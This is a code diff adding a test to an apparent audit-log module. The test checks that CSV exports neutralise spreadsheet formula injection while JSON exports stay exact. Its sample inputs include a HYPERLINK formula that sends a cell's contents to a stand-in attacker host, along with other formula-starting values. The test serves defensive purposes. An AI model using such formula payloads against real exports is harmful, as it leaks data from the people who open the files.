@@ -160,3 +160,18 @@ def test_a_retention_period_outside_a_day_to_a_century_is_refused(platform: Plat
         audit.purge(session, actor="ops", retention_days=days)
     with platform.sessions() as session:
         assert [e.action for e in audit.search(session)] == ["test.event"]
+
+
+def test_csv_cells_never_start_a_formula_while_json_stays_exact(platform: Platform) -> None:
+    typed = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    with platform.sessions.begin() as session:
+        for name in typed:
+            audit.record(session, actor=name, action="auth.login_failed", ip="127.0.0.1", purpose=name)
+    with platform.sessions() as session:
+        rows = list(csv.DictReader(io.StringIO("".join(audit.export(session, "csv")))))
+        lines = [json.loads(line) for line in audit.export(session, "json")]
+        assert audit.verify(session) is None
+    assert [r["actor"] for r in rows] == ["'" + name for name in typed]
+    assert [r["purpose"] for r in rows] == ["'" + name for name in typed]
+    assert [line["actor"] for line in lines] == typed
+    assert [r["hash"] for r in rows] == [line["hash"] for line in lines]
